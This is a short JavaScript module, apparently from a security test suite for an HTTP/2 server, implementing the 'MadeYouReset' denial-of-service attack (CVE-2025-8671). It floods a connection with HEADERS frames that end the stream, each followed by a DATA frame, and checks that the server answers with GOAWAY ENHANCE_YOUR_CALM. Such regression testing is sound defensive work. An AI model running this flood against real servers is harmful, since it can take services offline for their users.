// MadeYouReset: the server is made to reset streams itself, by DATA behind END_STREAM.

import { COMPLETE, Type, toFrame, toStreamId } from "../wire/frames.mjs";
import { toRequest } from "../wire/hpack.mjs";

const request = toRequest("/topics/default/late-data");

/** @type {import("../target.mjs").Attack} */
export const attack = {
  reference: "CVE-2025-8671",
  does: "ends its requests and goes on with DATA, so that the server resets the streams",
  limit: "resetsBurstMax, resetsPerSecondMax",
  meets: "GOAWAY ENHANCE_YOUR_CALM",
  counter: 'subito_http2_connection_errors_total{fault="too_many_resets"}',
  memoryMb: 64,
  async run(target) {
    const peer = await target.connectHttp2();
    await peer.flood((n) =>
      Buffer.concat([
        toFrame(Type.HEADERS, COMPLETE, toStreamId(n), request),
        toFrame(Type.DATA, 0, toStreamId(n), Buffer.alloc(1)),
      ]),
    );
    return [await target.patiently(peer.ended)];
  },
};
